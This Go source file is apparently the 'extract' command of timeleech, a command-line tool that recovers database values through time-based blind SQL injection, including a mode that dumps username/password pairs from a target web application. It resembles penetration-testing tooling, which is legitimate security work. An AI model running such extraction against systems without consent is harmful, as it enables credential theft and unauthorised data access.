package cli

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"strings"

	"github.com/spf13/cobra"

	"github.com/0x6d61/timeleech/internal/engine"
	"github.com/0x6d61/timeleech/internal/report"
	"github.com/0x6d61/timeleech/internal/transport"
)

var extractCmd = &cobra.Command{
	Use:   "extract",
	Short: "Extract a string value through the timing oracle",
	Long: `Extract recovers the value of a column through time-based blind SQL
injection, character by character. The delay is calibrated automatically
unless --delay is given.`,
	RunE: runExtract,
}

func init() {
	rootCmd.AddCommand(extractCmd)

	// Extraction target flags are extract-specific.
	extractCmd.Flags().StringP("table", "t", "users", "Table name to extract from")
	extractCmd.Flags().StringP("column", "c", "username", "Column name to extract")
	extractCmd.Flags().StringP("where", "w", "1=1", "WHERE clause for the extraction query")
	extractCmd.Flags().Int("max-length", 100, "Maximum string length")
	extractCmd.Flags().Bool("dump-users", false, "Dump username/password pairs row by row")
	extractCmd.Flags().String("password-column", "password", "Password column for --dump-users")
	extractCmd.Flags().Int("limit", 5, "Maximum rows for --dump-users")
}

// runExtract is the extract command handler. It wires up the pipeline:
// transport → session (calibration, oracle) → extraction → report.
func runExtract(cmd *cobra.Command, args []string) error {
	fmt.Println("[!] Legal disclaimer: Usage of timeleech for attacking targets without prior mutual consent is illegal.")

	// ------------------------------------------------------------------ //
	// 1. Read flags
	// ------------------------------------------------------------------ //
	targetURL, _ := cmd.Flags().GetString("url")
	if targetURL == "" {
		return fmt.Errorf("target URL is required (use --url or -u)")
	}

	param, _ := cmd.Flags().GetString("param")
	template, _ := cmd.Flags().GetString("payload")
	cookieStr, _ := cmd.Flags().GetString("cookie")
	rawHeaders, _ := cmd.Flags().GetStringArray("header")
	dbmsName, _ := cmd.Flags().GetString("dbms")
	delay, _ := cmd.Flags().GetFloat64("delay")
	samples, _ := cmd.Flags().GetInt("samples")
	parallel, _ := cmd.Flags().GetBool("parallel")
	workers, _ := cmd.Flags().GetInt("workers")
	chunkSize, _ := cmd.Flags().GetInt("chunk-size")
	proxyURL, _ := cmd.Flags().GetString("proxy")
	timeout, _ := cmd.Flags().GetDuration("timeout")
	maxRPS, _ := cmd.Flags().GetFloat64("rate")
	randomAgent, _ := cmd.Flags().GetBool("random-agent")
	verbose, _ := cmd.Flags().GetInt("verbose")
	outputPath, _ := cmd.Flags().GetString("output")
	format, _ := cmd.Flags().GetString("format")
	trace, _ := cmd.Flags().GetBool("trace")

	table, _ := cmd.Flags().GetString("table")
	column, _ := cmd.Flags().GetString("column")
	where, _ := cmd.Flags().GetString("where")
	maxLength, _ := cmd.Flags().GetInt("max-length")
	dumpUsers, _ := cmd.Flags().GetBool("dump-users")
	passColumn, _ := cmd.Flags().GetString("password-column")
	limit, _ := cmd.Flags().GetInt("limit")

	// ------------------------------------------------------------------ //
	// 2. Transport client
	// ------------------------------------------------------------------ //
	client, err := transport.NewClient(transport.ClientOptions{
		Timeout:         timeout,
		ProxyURL:        proxyURL,
		RandomUserAgent: randomAgent,
		MaxRPS:          maxRPS,
		MaxIdleConns:    workers * 2,
	})
	if err != nil {
		return fmt.Errorf("failed to create HTTP client: %w", err)
	}

	// ------------------------------------------------------------------ //
	// 3. Session configuration (fatal errors surface before any probe)
	// ------------------------------------------------------------------ //
	cfg := engine.Config{
		URL:       targetURL,
		Param:     param,
		Template:  template,
		DBMS:      dbmsName,
		Delay:     delay,
		Parallel:  parallel,
		Workers:   workers,
		ChunkSize: chunkSize,
		Samples:   samples,
		Trace:     trace,
		Timeout:   timeout,
		Headers:   parseHeaders(rawHeaders),
		Cookies:   parseCookieString(cookieStr),
		Verbose:   verbose,
	}

	session, err := engine.NewSession(client, cfg)
	if err != nil {
		return err
	}

	session.SetProgressCallback(func(msg string) {
		fmt.Printf("[*] %s\n", msg)
	})

	if verbose > 0 {
		fmt.Printf("[*] Target: %s (param %q)\n", targetURL, param)
		if parallel {
			fmt.Printf("[*] Parallel extraction: %d workers, chunk size %d\n", workers, chunkSize)
		}
	}

	// ------------------------------------------------------------------ //
	// 4. Context (CTRL+C cancels extraction; partial result is kept)
	// ------------------------------------------------------------------ //
	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt)
	defer cancel()

	// ------------------------------------------------------------------ //
	// 5. Run extraction
	// ------------------------------------------------------------------ //
	if dumpUsers {
		return runDumpUsers(ctx, session, table, column, passColumn, limit)
	}

	fmt.Printf("[*] Extracting %s.%s (where %s)\n", table, column, where)

	result, err := session.Extract(ctx, table, column, where, maxLength)
	if err != nil {
		return fmt.Errorf("extraction error: %w", err)
	}
	if result.Partial {
		fmt.Println("[!] Extraction interrupted; reporting partial result")
	}

	// ------------------------------------------------------------------ //
	// 6. Generate report
	// ------------------------------------------------------------------ //
	reporter, err := report.New(format)
	if err != nil {
		return fmt.Errorf("unknown report format %q: %w", format, err)
	}

	out := os.Stdout
	if outputPath != "" {
		f, err := os.Create(outputPath)
		if err != nil {
			return fmt.Errorf("failed to create output file %q: %w", outputPath, err)
		}
		defer f.Close()
		out = f
	}

	if err := reporter.Generate(context.Background(), result, out); err != nil {
		return fmt.Errorf("failed to generate report: %w", err)
	}

	if result.Partial {
		return context.Canceled
	}
	return nil
}

// runDumpUsers extracts username/password pairs row by row.
func runDumpUsers(ctx context.Context, session *engine.Session, table, userColumn, passColumn string, limit int) error {
	creds, err := session.ExtractUserData(ctx, table, userColumn, passColumn, limit)
	if err != nil {
		return fmt.Errorf("extraction error: %w", err)
	}

	fmt.Printf("[+] Extracted %d credential(s):\n", len(creds))
	for _, c := range creds {
		fmt.Printf("    %s:%s\n", c.Username, c.Password)
	}

	if ctx.Err() != nil {
		return context.Canceled
	}
	return nil
}

// --------------------------------------------------------------------------
// Flag helpers
// --------------------------------------------------------------------------

// parseCookieString parses a cookie header string (e.g., "name1=val1; name2=val2")
// into a map of name->value pairs.
func parseCookieString(raw string) map[string]string {
	cookies := make(map[string]string)
	if raw == "" {
		return cookies
	}
	pairs := strings.Split(raw, ";")
	for _, pair := range pairs {
		pair = strings.TrimSpace(pair)
		if pair == "" {
			continue
		}
		parts := strings.SplitN(pair, "=", 2)
		if len(parts) == 2 {
			cookies[strings.TrimSpace(parts[0])] = strings.TrimSpace(parts[1])
		}
	}
	return cookies
}

// parseHeaders parses header strings (e.g., "X-Custom: value") into a map.
func parseHeaders(rawHeaders []string) map[string]string {
	headers := make(map[string]string)
	for _, h := range rawHeaders {
		parts := strings.SplitN(h, ":", 2)
		if len(parts) == 2 {
			headers[strings.TrimSpace(parts[0])] = strings.TrimSpace(parts[1])
		}
	}
	return headers
}
